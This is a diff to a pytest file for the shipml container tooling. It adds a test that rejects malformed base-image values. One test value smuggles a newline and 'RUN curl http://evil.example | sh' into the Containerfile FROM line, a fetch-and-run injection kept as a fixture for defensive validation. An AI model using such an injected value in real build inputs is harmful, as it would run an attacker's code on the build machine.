@@ -8,6 +8,7 @@ from pathlib import Path
 import pytest
 
 from shipml.config import ProjectConfig
+from shipml.containers import build_image
 from shipml.containers.context import project_context
 from shipml.errors import ContainerError
 
@@ -51,3 +52,14 @@ def test_a_gateway_token_in_shipml_toml_is_not_copied_into_an_image(
     assert "hunter2" not in caught.value.message + caught.value.hint
     copied = [p for p in context.rglob("*") if p.is_file()] if context.exists() else []
     assert not any("tok-hunter2" in p.read_text(errors="replace") for p in copied)
+
+
+@pytest.mark.parametrize(
+    "base", ["python:3.11-slim\nRUN curl http://evil.example | sh", "python:3.11 AS x", ""]
+)
+def test_a_base_image_that_is_not_a_reference_is_refused(config: ProjectConfig, base: str) -> None:
+    """The base image is written into the FROM line: a newline would add instructions."""
+    with pytest.raises(ContainerError, match="is not an image reference") as caught:
+        build_image(config, "train", base_image=base or " ", engine="podman")
+    assert caught.value.hint
+    assert not (config.root / "build" / "train" / "Containerfile").exists()
